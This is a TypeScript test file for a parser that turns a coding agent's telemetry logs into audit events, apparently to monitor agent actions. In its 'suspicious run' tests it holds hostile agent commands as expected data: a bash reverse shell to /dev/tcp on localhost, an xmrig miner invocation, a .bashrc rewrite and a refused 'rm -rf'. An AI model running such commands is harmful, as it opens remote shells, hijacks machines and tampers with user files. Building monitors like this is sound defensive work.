import { fixture, line, step, tell } from '../../test/support/recorded';
import type { AttributeValue, LogRecord, SpanRecord } from '../../contracts/telemetry';
import { codex, exitCodeOf } from './codex';
import type { EventDraft } from './dialect';

const origin = { resource: {}, scope: { name: 'codex_otel.log_only', version: '', attributes: {} } };

function log(name: string, attributes: Record<string, AttributeValue>): LogRecord {
  return {
    kind: 'log',
    origin,
    timeUnixNano: 0n,
    observedUnixNano: 1_795_000_000_500_000_000n,
    severityNumber: 9,
    severityText: 'INFO',
    body: null,
    eventName: 'event otel/src/tool_result.rs:54',
    attributes: { 'event.name': `codex.${name}`, 'conversation.id': 'c1', ...attributes },
    traceId: '',
    spanId: '',
  };
}
const drafts = (name: string, attributes: Record<string, AttributeValue>) =>
  codex.read(log(name, attributes)) as readonly EventDraft[];

describe('the suspicious run', () => {
  const { events, ignored } = tell(fixture('codex/suspicious-full'));

  it('reads exit codes out of the output, since success says only that the tool ran', () => {
    expect(step(events, 1)).toEqual([
      'tool_decision approved: exec',
      "tool_result completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (ok, exit 1)",
    ]);
    expect(step(events, 5).at(-1)).toBe(
      'tool_result completed: exec command=./xmrig -o stratum+tcp://127.0.0.1:3333 -u x (ok, exit 127)',
    );
  });

  it('reads a patch as one act a file', () => {
    const write = events.find((event) => event.action.type === 'file.write' && event.phase === 'completed');
    expect(write?.action).toEqual({
      type: 'file.write',
      tool: 'apply_patch',
      path: '/home/dev/.bashrc',
      content: '# rewritten by the agent (decoy home)\nexport DECOY=1',
    });
    expect(write?.outcome?.exitCode).toBe(0);
  });

  it('knows a call that its own policy refused', () => {
    expect(step(events, 10)).toEqual(['tool_result denied: exec command=rm -rf ./scratch-dir (denied)']);
  });

  it('passes over the internal spans and counts them', () => {
    expect(events.filter((event) => event.source.signal === 'span')).toEqual([]);
    expect(ignored.find(({ reason }) => reason === 'internal')?.count).toBeGreaterThan(20);
  });

  it('counts each model call once, by the record that has the counts', () => {
    const calls = events.filter(({ action }) => action.type === 'model.call' && action.metric === undefined);
    expect(calls.map(({ action }) => action)).toContainEqual(
      expect.objectContaining({ inputTokens: 9_480, cachedInputTokens: 8_192, outputTokens: 139 }),
    );
    expect(calls).toHaveLength(3);
  });
});

describe('the harmless run', () => {
  const { events, links } = tell(fixture('codex/benign-default'));

  it('links the conversation of a sub-agent to its parent', () => {
    const [parent, child] = [...new Set(events.map((event) => event.scope))];
    expect(links).toContainEqual(expect.objectContaining({ kind: 'child-parent', child, parent }));
    expect(events.filter(({ scope }) => scope === child).map(line)).toContain(
      'tool_result completed: exec command=find src -name "*.js" | wc -l (ok, exit 0)',
    );
  });

  it('reads MCP calls, exit codes and cut outputs', () => {
    expect(step(events, 11)).toEqual([
      'tool_result completed: mcp.call server=notes arguments={"key":"release","limit":2} (ok)',
    ]);
    expect(step(events, 13)).toContain('tool_result completed: exec command=ls no-such-dir; exit 3 (ok, exit 3)');
    const long = events.find((event) => event.visibility?.some(({ field }) => field === 'outcome.output'));
    expect(long && line(long)).toBe('tool_result completed: exec command=seq 1 20000 (ok, exit 0)');
  });

  it('names the setting that shows prompts', () => {
    const prompt = events.find(({ action }) => action.type === 'prompt');
    expect(prompt?.visibility).toEqual([
      { field: 'action.text', state: 'hidden', setting: '[otel] log_user_prompt = true' },
    ]);
  });
});

describe('single records', () => {
  it('takes the time it was observed for a time of zero', () => {
    expect(drafts('tool_result', { tool_name: 'exec_command', arguments: '{"cmd":"ls"}' })[0]?.atMs).toBe(
      1_795_000_000_500,
    );
  });

  it('does not believe an exit code that the command printed', () => {
    expect(exitCodeOf('Wall time: 1 s\nProcess exited with code 2\nOutput:\nProcess exited with code 0\n')).toBe(2);
    expect(exitCodeOf('Process running with session ID 5\nOutput:\nProcess exited with code 0\n')).toBeUndefined();
  });

  it('reads keystrokes to a running process, an escalation and an argument vector', () => {
    const shell = drafts('tool_result', {
      tool_name: 'exec_command',
      arguments: '{"cmd":"make","workdir":"/srv","sandbox_permissions":"require_escalated"}',
    });
    expect(shell[0]?.action).toMatchObject({ command: 'make', cwd: '/srv', unsandboxed: true });
    const typed = drafts('tool_result', { tool_name: 'write_stdin', arguments: '{"session_id":5,"chars":"id\\n"}' });
    expect(typed[0]?.action).toEqual({ type: 'exec', tool: 'write_stdin', command: 'id\n', stdin: true });
    const vector = drafts('tool_result', { tool_name: 'shell', arguments: '{"command":["bash","-lc","ls | wc"]}' });
    expect(vector[0]?.action).toMatchObject({ command: 'ls | wc' });
  });

  it('makes an act of each file of a patch', () => {
    const patch =
      '*** Begin Patch\n*** Add File: a.sh\n+echo 1\n*** Update File: b\n*** Move to: c\n-old\n+new\n' +
      '*** Delete File: d\n*** End Patch\n';
    const acts = drafts('tool_result', { tool_name: 'apply_patch', arguments: patch }).map(({ action }) => action);
    expect(acts).toEqual([
      { type: 'file.write', tool: 'apply_patch', path: 'a.sh', content: 'echo 1' },
      { type: 'file.write', tool: 'apply_patch', path: 'c', content: 'new', removed: 'old', edit: true },
      { type: 'file.delete', tool: 'apply_patch', path: 'b' },
      { type: 'file.delete', tool: 'apply_patch', path: 'd' },
    ]);
  });

  it.each([
    ['approved_for_session', 'User', 'approved', { decision: 'accept', by: 'user' }],
    ['denied', 'User', 'denied', { decision: 'reject', by: 'user' }],
    ['abort', 'Config', 'denied', { decision: 'reject', by: 'config' }],
  ])('reads the decision %s', (decision, source, phase, permission) => {
    const [draft] = drafts('tool_decision', { tool_name: 'exec_command', call_id: 'k', decision, source });
    expect(draft).toMatchObject({ phase, permission, callId: 'k' });
  });

  it('finds a call that a hook refused in its span, the only record of it', () => {
    const span = (attributes: Record<string, AttributeValue>): SpanRecord => ({
      kind: 'span',
      origin,
      traceId: 'a'.repeat(32),
      spanId: 'b'.repeat(16),
      parentSpanId: '',
      name: 'exec_command',
      spanKind: 1,
      startUnixNano: 1n,
      endUnixNano: 2n,
      attributes: { tool_name: 'exec_command', call_id: 'k', 'conversation.id': 'c1', ...attributes },
      events: [],
      statusCode: 0,
      statusMessage: '',
    });
    expect(codex.read(span({}))).toMatchObject([
      { phase: 'denied', callId: 'k', action: { type: 'approval', decision: 'reject', by: 'hook' } },
    ]);
    expect(codex.read(span({ 'codex.tool.phase': 'dispatch' }))).toEqual({ ignored: 'duplicate' });
  });
});
